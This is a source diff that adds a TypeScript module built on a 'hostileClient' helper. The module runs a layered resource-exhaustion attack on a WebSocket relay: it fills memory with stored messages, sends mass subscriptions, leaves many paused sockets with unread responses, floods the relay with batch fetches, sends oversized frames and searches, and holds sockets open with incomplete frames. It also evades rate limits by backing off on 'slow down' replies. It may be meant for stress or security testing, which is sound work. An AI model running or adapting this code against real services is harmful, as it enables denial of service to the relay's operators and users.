@@ -1,0 +1,123 @@
+import { get } from 'node:http'
+import { setTimeout } from 'node:timers/promises'
+import { WebSocket } from 'ws'
+import {
+  answered,
+  anyTopic,
+  badIds,
+  drafts,
+  enter,
+  flood,
+  gather,
+  hold,
+  kib,
+  longInclude,
+  publish,
+  raw,
+  request,
+  search,
+  type Target,
+  topic,
+} from './hostileClient.ts'
+
+/**
+ * Takes what each limit allows, one on top of the other, and keeps it: stored messages, subscriptions, responses that are not read, fetches
+ * that wait, unfinished frames, and beside these the longest frames and searches.
+ *
+ * @param fillingKeys - New keys that store as many of the shortest messages as they may: a relay without a file holds these in memory.
+ */
+export async function stack(target: Target, fillingKeys: number): Promise<void> {
+  await requestImage(target)
+  await Promise.all(Array.from({ length: fillingKeys }, () => fill(target)))
+  const sockets = [...(await subscribeAll(target)), ...(await leaveUnread(target))]
+  const giant = badIds(255 * kib)
+  const giants = async () => {
+    await rest(target, 8_000)
+    await Promise.all([flood(target, () => giant), search(target, longInclude)])
+  }
+  await Promise.all([fetchMany(target), leaveUnfinished(target), giants()])
+  for (const socket of sockets) socket.terminate()
+}
+
+async function rest({ isOver }: Target, ms: number) {
+  for (let passed = 0; passed < ms && !isOver(); passed += 100) await setTimeout(100)
+}
+
+/** An image is drawn from a collection that the server loads with the first of them. */
+function requestImage({ relayUrl, from }: Target): Promise<void> {
+  const { hostname: host, port } = new URL(relayUrl)
+  const path = '/public/getTokenImage/ETH?projectId=test'
+  return new Promise((resolve) => {
+    const asking = get({ host, port, path, localAddress: from }, (answer) => answer.resume().on('close', resolve))
+    asking.on('error', () => resolve())
+  })
+}
+
+/** Sends a request until it succeeds `count` times, or is refused for another reason than the rate. */
+async function repeat(target: Target, socket: WebSocket, { count, frame }: { count: number; frame: () => string }) {
+  for (let done = 0; done < count && !target.isOver() && socket.readyState === WebSocket.OPEN; ) {
+    socket.send(frame())
+    target.seen.sent += 1
+    const answer = await answered(socket)
+    if (answer.includes('"result"')) done += 1
+    else if (answer.includes('slow down')) await rest(target, 500)
+    else return
+  }
+}
+
+async function fill(target: Target) {
+  const socket = await enter(target)
+  if (!socket) return
+  const frame = () => request('irn_batchPublish', { messages: drafts(100, anyTopic, 604_800) })
+  await repeat(target, socket, { count: 10, frame })
+  socket.terminate()
+}
+
+async function subscribeAll(target: Target): Promise<readonly WebSocket[]> {
+  const sockets = (await gather(target, 4)).slice(0, 4)
+  const frame = () => request('irn_batchSubscribe', { topics: Array.from({ length: 500 }, anyTopic) })
+  await Promise.all(sockets.map((socket) => repeat(target, socket, { count: 10, frame })))
+  return sockets
+}
+
+/** Many keys ask for long messages and read nothing. */
+async function leaveUnread(target: Target): Promise<readonly WebSocket[]> {
+  const first = await enter(target)
+  for (let number = 0; number < 30; number += 1) first?.send(publish(`${number} ${'x'.repeat(45_000)}`))
+  await rest(target, 8_000)
+  const sockets = await gather(target, 160)
+  for (const socket of sockets) {
+    socket.pause()
+    for (let count = 0; count < 2 && socket.readyState === WebSocket.OPEN; count += 1)
+      socket.send(request('irn_fetchMessages', { topic }))
+  }
+  target.seen.sent += 2 * sockets.length
+  await rest(target, 2_000)
+  return sockets
+}
+
+/** Fetches of as many topics as a batch has, which wait for their turn. */
+async function fetchMany(target: Target) {
+  while (!target.isOver()) {
+    const sockets = await gather(target, 20)
+    for (let count = 0; count < 20; count += 1)
+      for (const socket of sockets) {
+        if (socket.readyState !== WebSocket.OPEN) continue
+        socket.send(request('irn_batchFetchMessages', { topics: Array.from({ length: 500 }, anyTopic) }))
+        target.seen.sent += 1
+      }
+    await rest(target, 5_000)
+    for (const socket of sockets) socket.terminate()
+  }
+}
+
+function leaveUnfinished(target: Target): Promise<void> {
+  const length = 60 * kib
+  const head = Buffer.from([0x81, 0xfe, length >> 8, length & 0xff, 0, 0, 0, 0])
+  const part = Buffer.concat([head, Buffer.alloc(length - 1, 'x')])
+  return hold(target, 40, async () => {
+    const socket = await enter(target)
+    if (socket) raw(socket).write(part)
+    return socket
+  })
+}
